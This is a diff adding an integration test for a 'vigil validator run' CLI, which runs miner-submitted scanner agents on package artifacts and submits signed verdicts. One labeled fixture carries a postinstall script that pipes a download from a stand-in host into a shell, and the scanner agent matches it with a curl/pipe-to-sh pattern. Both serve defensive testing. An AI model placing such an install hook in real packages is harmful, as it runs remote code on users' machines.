@@ -1,0 +1,270 @@
+/**
+ * `vigil validator run` (packages/cli) against a real server: a round in evaluation with real
+ * agent bundles (Node agents a miner submitted) and real .tgz artifacts; the loop claims, downloads,
+ * runs each agent in the sandbox, signs and submits in batches. Also: an agent that crashes, a
+ * server restart mid-run, and Ctrl-C mid-run (the built `vigil` as a process).
+ */
+import { spawn } from 'node:child_process';
+import { mkdtemp, rm, writeFile } from 'node:fs/promises';
+import { createRequire } from 'node:module';
+import { tmpdir } from 'node:os';
+import { dirname, join } from 'node:path';
+import { existsSync } from 'node:fs';
+import { run, type Io } from '@vigil/cli';
+import { SignedVigilClient, keypairFromSeed, type VigilKeypair } from '@vigil/client';
+import { AGENT_BUNDLE_FORMAT, MinerAgent, ValidatorRegistration, type AgentBundle, type MetagraphSnapshot } from '@vigil/core';
+import { toHex } from '@vigil/crypto';
+import { afterEach, describe, expect, it } from 'vitest';
+import { openDatabase, type VigilDatabase } from '../src/db/database.js';
+import { migrateToLatest } from '../src/db/migrate.js';
+import { advanceRounds, type SchedulerSettings } from '../src/scheduler/index.js';
+import { tarGz } from '../src/seed/tar-gz.js';
+import { storeArtifact } from '../src/services/store-artifact.js';
+import { startNetworkApp, type NetworkApp } from '../src/test-support/network-app.js';
+
+const VALIDATOR = keypairFromSeed('f1'.repeat(32));
+const MINERS = { good: keypairFromSeed('f2'.repeat(32)), crash: keypairFromSeed('f3'.repeat(32)), slow: keypairFromSeed('f4'.repeat(32)) };
+
+const SNAPSHOT: MetagraphSnapshot = { netuid: 76, block: 1, taken_at: '2026-12-01T00:00:00Z', neurons: [{ uid: 1, hotkey: VALIDATOR.hotkey, validator_permit: true }] };
+
+const SETTINGS: SchedulerSettings = {
+  submissionMs: 1_000,
+  evaluationMs: 3_600_000,
+  gapMs: 3_600_000,
+  intervalMs: 1_000,
+  policyVersion: 'validator-run-1',
+  labeledArtifacts: 2,
+  liveArtifacts: 1,
+};
+
+/** A real agent: flags a package whose install scripts fetch or pipe into a shell. */
+const SCANNER = `
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
+const input = JSON.parse(readFileSync(0, 'utf8'));
+const text = readFileSync(join(input.artifact.dir, 'package.json'), 'utf8');
+const bad = /curl|\\| *sh/.test(text);
+const line = text.split('\\n').findIndex((l) => /curl|\\| *sh/.test(l)) + 1;
+await new Promise((resolve) => setTimeout(resolve, DELAY));
+process.stdout.write(JSON.stringify({
+  verdict: bad ? 'BLOCK' : 'ALLOW',
+  risk_score: bad ? 90 : 2,
+  findings: bad ? [{ type: 'static', category: 'install_script', severity: 'CRIT', title: 'install script pipes a download into a shell', file: 'package.json', line, evidence: 'curl | sh' }] : [],
+}));
+`;
+
+const agentBundle = (code: string): AgentBundle => ({ format: AGENT_BUNDLE_FORMAT, entrypoint: 'agent.mjs', files: [{ path: 'agent.mjs', content_base64: Buffer.from(code).toString('base64') }] });
+
+const ARTIFACTS = [
+  { sourceId: 'evil-installer', kind: 'labeled', truth: 'BLOCK', manifest: { name: 'evil-installer', version: '1.0.0', scripts: { postinstall: 'curl -s https://x.example/i.sh | sh' } } },
+  { sourceId: 'left-pad', kind: 'labeled', truth: 'ALLOW', manifest: { name: 'left-pad', version: '1.3.0', main: 'index.js' } },
+  { sourceId: 'is-even', kind: 'live', manifest: { name: 'is-even', version: '1.0.0' } },
+] as const;
+
+interface Server {
+  e: NetworkApp;
+  database: VigilDatabase;
+  dir: string;
+  port: number;
+  restart(): Promise<void>;
+}
+
+const cleanups: Array<() => Promise<void>> = [];
+afterEach(async () => {
+  for (const cleanup of cleanups.splice(0).reverse()) await cleanup();
+});
+
+/** A server with one `packages` round in evaluation whose agents are the given miners' bundles. */
+async function serverWithRound(agents: Array<{ miner: VigilKeypair; code: string }>): Promise<Server> {
+  const dir = await mkdtemp(join(tmpdir(), 'vigil-validator-run-'));
+  const database = await openDatabase({ url: ':memory:' });
+  await migrateToLatest(database.db);
+  const server: Server = {
+    dir,
+    database,
+    port: 0,
+    e: await startNetworkApp({ snapshot: SNAPSHOT, database, dir }),
+    async restart() {
+      await server.e.app.close();
+      server.e = await startNetworkApp({ snapshot: SNAPSHOT, database, dir, port: server.port });
+    },
+  };
+  server.port = Number(new URL(server.e.baseUrl).port);
+  cleanups.push(async () => {
+    await server.e.close();
+    await database.close();
+    await rm(dir, { recursive: true, force: true });
+  });
+  for (const a of ARTIFACTS) {
+    await storeArtifact(database.db, server.e.blobs, {
+      track: 'packages',
+      label: a.kind === 'labeled' ? 'bench' : 'live',
+      sourceId: a.sourceId,
+      ...(a.kind === 'labeled' ? { kind: 'labeled' as const, groundTruth: a.truth } : { kind: 'live' as const }),
+      bytes: tarGz([
+        { path: 'package/package.json', content: `${JSON.stringify(a.manifest, null, 2)}\n` },
+        { path: 'package/index.js', content: 'module.exports = 1;\n' },
+      ]),
+      now: Date.now(),
+    });
+  }
+  await advanceRounds(database.db, { now: Date.now(), settings: SETTINGS });
+  for (const { miner, code } of agents) {
+    const client = new SignedVigilClient({ baseUrl: server.e.baseUrl, keypair: miner });
+    await client.request('POST', '/v1/miners/registrations', { track: 'packages' });
+    await client.request('POST', '/v1/miners/agents', { track: 'packages', name: `agent-${miner.hotkey.slice(0, 6)}`, provider: 'none', bundle: agentBundle(code) }, { schema: MinerAgent });
+  }
+  const transitions = await advanceRounds(database.db, { now: Date.now() + SETTINGS.submissionMs + 1_000, settings: SETTINGS });
+  expect(transitions.map((t) => `${t.track}:${t.action}`)).toContain('packages:evaluation_started');
+  const validator = new SignedVigilClient({ baseUrl: server.e.baseUrl, keypair: VALIDATOR });
+  await validator.request('POST', '/v1/validators/registration', { allowed_ips: ['127.0.0.1'] }, { schema: ValidatorRegistration });
+  return server;
+}
+
+async function keyfile(dir: string): Promise<string> {
+  const path = join(dir, 'validator.json');
+  const publicKey = `0x${toHex(VALIDATOR.publicKey)}`;
+  await writeFile(path, JSON.stringify({ accountId: publicKey, publicKey, privateKey: null, secretPhrase: null, secretSeed: `0x${'f1'.repeat(32)}`, ss58Address: VALIDATOR.hotkey }), { mode: 0o600 });
+  return path;
+}
+
+type Event = Record<string, unknown> & { event: string };
+
+/** Runs `vigil … validator run --json …` in this process; `onEvent` sees each event as it is printed. */
+async function validatorRun(server: Server, args: string[], onEvent: (event: Event) => void = () => {}): Promise<{ code: number; events: Event[]; stderr: string }> {
+  const events: Event[] = [];
+  let stderr = '';
+  let buffered = '';
+  const io: Io = {
+    stdout: (text) => {
+      buffered += text;
+      const lines = buffered.split('\n');
+      buffered = lines.pop() ?? '';
+      for (const line of lines) {
+        const event = JSON.parse(line) as Event;
+        events.push(event);
+        onEvent(event);
+      }
+    },
+    stderr: (text) => {
+      stderr += text;
+    },
+    env: {},
+    home: server.dir,
+  };
+  const code = await run(['--base-url', server.e.baseUrl, '--json', 'validator', 'run', '--keyfile', await keyfile(server.dir), '--work-dir', join(server.dir, 'work'), ...args], io);
+  return { code, events, stderr };
+}
+
+async function attestations(server: Server) {
+  return server.database.db.selectFrom('attestations').selectAll().execute();
+}
+
+async function leaseStates(server: Server): Promise<string[]> {
+  return (await server.database.db.selectFrom('task_leases').select('state').execute()).map((r) => r.state).sort();
+}
+
+describe('vigil validator run', () => {
+  it('runs every task of the round and the server records each attestation; a crashing agent releases its leases', async () => {
+    const server = await serverWithRound([
+      { miner: MINERS.good, code: SCANNER.replace('DELAY', '0') },
+      { miner: MINERS.crash, code: "throw new Error('agent bug: cannot parse the manifest');\n" },
+    ]);
+    const { code, events, stderr } = await validatorRun(server, ['--exit-when-idle', '--poll-interval', '1', '--concurrency', '3', '--batch-size', '2']);
+    expect(code, stderr).toBe(0);
+
+    const done = events.filter((e) => e.event === 'task_done');
+    const failed = events.filter((e) => e.event === 'task_failed');
+    expect(done).toHaveLength(3);
+    expect(failed).toHaveLength(3);
+    expect(failed.every((e) => e.failure_reason === 'crashed: exit 1' && e.released === true && String(e.detail).includes('agent bug'))).toBe(true);
+    expect(events.at(-1)).toMatchObject({ event: 'summary', claimed: 6, attested: 3, duplicate: 0, refused: 0, failed: 3, unsent: 0 });
+
+    const rows = await attestations(server);
+    expect(rows).toHaveLength(3);
+    const verdicts = rows.map((r) => r.verdict).sort();
+    expect(verdicts).toEqual(['ALLOW', 'ALLOW', 'BLOCK']);
+    expect(new Set(rows.map((r) => r.validator_hotkey))).toEqual(new Set([VALIDATOR.hotkey]));
+    // Batches of at most 2: never more envelopes in one submission.
+    const batches = events.filter((e) => e.event === 'batch_submitted');
+    expect(batches.every((b) => (b.attestations as number) <= 2)).toBe(true);
+    expect(batches.reduce((n, b) => n + (b.created as number), 0)).toBe(3);
+    expect(await leaseStates(server)).toEqual(['completed', 'completed', 'completed', 'failed', 'failed', 'failed']);
+  }, 120_000);
+
+  it('survives a server restart mid-run: waits, resubmits, and finishes', async () => {
+    const server = await serverWithRound([{ miner: MINERS.slow, code: SCANNER.replace('DELAY', '1500') }]);
+    let restarted: Promise<void> | null = null;
+    const { code, events, stderr } = await validatorRun(server, ['--exit-when-idle', '--poll-interval', '1', '--concurrency', '1'], (event) => {
+      if (event.event === 'task_done' && restarted === null) {
+        // Down for two seconds while the signed result waits to be sent.
+        restarted = (async () => {
+          await server.e.app.close();
+          await new Promise((resolve) => setTimeout(resolve, 2_000));
+          await server.restart();
+        })();
+      }
+    });
+    await restarted;
+    expect(code, stderr).toBe(0);
+    expect(events.some((e) => e.event === 'server_unreachable')).toBe(true);
+    expect(events.filter((e) => e.event === 'task_done')).toHaveLength(3);
+    expect(await attestations(server)).toHaveLength(3);
+    expect(events.at(-1)).toMatchObject({ event: 'summary', claimed: 3, failed: 0, unsent: 0 });
+  }, 120_000);
+});
+
+const require = createRequire(import.meta.url);
+const CLI_BIN = join(dirname(require.resolve('@vigil/cli/package.json')), 'dist', 'bin.js');
+
+describe.skipIf(!existsSync(CLI_BIN))('vigil validator run, stopped with Ctrl-C', () => {
+  it('stops claiming, releases what it aborts, sends every signed result in whole batches and exits 0', async () => {
+    const server = await serverWithRound([
+      { miner: MINERS.slow, code: SCANNER.replace('DELAY', '1500') },
+      { miner: MINERS.good, code: SCANNER.replace('DELAY', '4000') },
+    ]);
+    const child = spawn(
+      process.execPath,
+      [CLI_BIN, '--base-url', server.e.baseUrl, '--json', 'validator', 'run', '--keyfile', await keyfile(server.dir), '--work-dir', join(server.dir, 'work'), '--concurrency', '2', '--grace', '0', '--poll-interval', '1'],
+      { env: { PATH: process.env.PATH ?? '', HOME: server.dir }, stdio: ['ignore', 'pipe', 'pipe'] },
+    );
+    const events: Event[] = [];
+    let stderr = '';
+    child.stderr.on('data', (chunk: Buffer) => (stderr += chunk.toString()));
+    let buffered = '';
+    let interrupted = false;
+    child.stdout.on('data', (chunk: Buffer) => {
+      buffered += chunk.toString();
+      const lines = buffered.split('\n');
+      buffered = lines.pop() ?? '';
+      for (const line of lines) {
+        const event = JSON.parse(line) as Event;
+        events.push(event);
+        if (event.event === 'task_done' && !interrupted) {
+          interrupted = true;
+          child.kill('SIGINT');
+        }
+      }
+    });
+    const code = await new Promise<number | null>((resolve) => child.on('exit', (c) => resolve(c)));
+    expect(code, stderr).toBe(0);
+    expect(events.some((e) => e.event === 'stopping')).toBe(true);
+    const summary = events.at(-1)!;
+    expect(summary).toMatchObject({ event: 'summary', unsent: 0 });
+    const done = events.filter((e) => e.event === 'task_done').map((e) => e.task_id);
+    const failed = events.filter((e) => e.event === 'task_failed');
+    // Whatever was running at the signal was aborted (no grace) and its lease released.
+    expect(failed.length).toBeGreaterThan(0);
+    expect(failed.every((e) => e.failure_reason === 'aborted' && e.released === true)).toBe(true);
+    // Every signed result reached the server, each batch whole: the server holds exactly those.
+    const rows = await attestations(server);
+    expect(rows.map((r) => r.task_id).sort()).toEqual([...done].sort());
+    const created = events.filter((e) => e.event === 'batch_submitted').reduce((n, b) => n + (b.created as number), 0);
+    expect(created).toBe(rows.length);
+    const states = await leaseStates(server);
+    expect(states.filter((s) => s === 'completed')).toHaveLength(rows.length);
+    expect(states.filter((s) => s === 'failed')).toHaveLength(failed.length);
+    // Stopped claiming: it claimed only what it could run before the signal (two slots, refilled once at most).
+    expect(summary.claimed).toBe(done.length + failed.length);
+  }, 120_000);
+});
